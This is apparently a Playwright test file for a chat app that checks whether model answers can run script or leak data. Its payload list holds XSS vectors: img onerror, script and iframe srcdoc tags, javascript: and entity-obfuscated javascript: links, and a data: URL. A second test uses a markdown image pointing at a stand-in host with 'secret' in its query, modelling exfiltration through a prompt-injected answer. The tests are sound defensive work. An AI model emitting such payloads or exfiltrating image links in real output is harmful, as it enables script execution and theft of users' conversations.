"""An answer that a hostile document talked the model into: nothing runs, nothing leaves."""

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from chatkeep.testing import Reply, ScriptedModelServer
from tests.browser.talk import answer, ask
from tests.serving import Server

pytestmark = pytest.mark.browser

_RUN = "window.ran=1"
_ATTEMPTS = [
    f'<img src=x onerror="{_RUN}">',
    f"<script>{_RUN}</script>",
    f"<svg onload={_RUN}><iframe srcdoc='<script>parent.{_RUN}</script>'></iframe></svg>",
    f"[a link](javascript:{_RUN})",
    f"[a disguised link](java&#115;cript:{_RUN})",
    f"![an image](javascript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"[data](data:text/html,<script>{_RUN}</script>)",
]


def test_nothing_in_an_answer_runs(page: Page, scripted: Server, model: ScriptedModelServer) -> None:
    model.script(Reply("\n\n".join([*_ATTEMPTS, "The end of it."])))
    page.goto(scripted.url)
    ask(page, "What does the document say?")
    assert "The end of it." in answer(page)
    log = page.get_by_role("log")
    # Written out as text, tags and all; the links are words.
    expect(log).to_contain_text(_ATTEMPTS[0])
    expect(log).to_contain_text("a disguised link")
    expect(log.locator("img, script, iframe, .ck-md svg, .ck-md a")).to_have_count(0)
    for words in ("a link", "a disguised link", "data"):
        log.get_by_text(words, exact=True).click()
    assert page.evaluate("window.ran") is None
    assert len(page.context.pages) == 1


def test_a_remote_image_becomes_a_link_and_is_not_fetched(
    browser: Browser, scripted: Server, model: ScriptedModelServer
) -> None:
    """Its address could carry the conversation away; only hosts the operator named are shown."""
    reached: list[str] = []

    def reach(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    context = browser.new_context()
    context.route("**elsewhere.test/**", reach)
    page = context.new_page()
    model.script(Reply("![a chart](https://elsewhere.test/pixel.png?what=secret)\n\nThe end of it."))
    page.goto(scripted.url)
    ask(page, "Is there a chart?")
    assert "The end of it." in answer(page)
    expect(page.get_by_role("log").locator("img")).to_have_count(0)
    assert reached == []
    context.close()
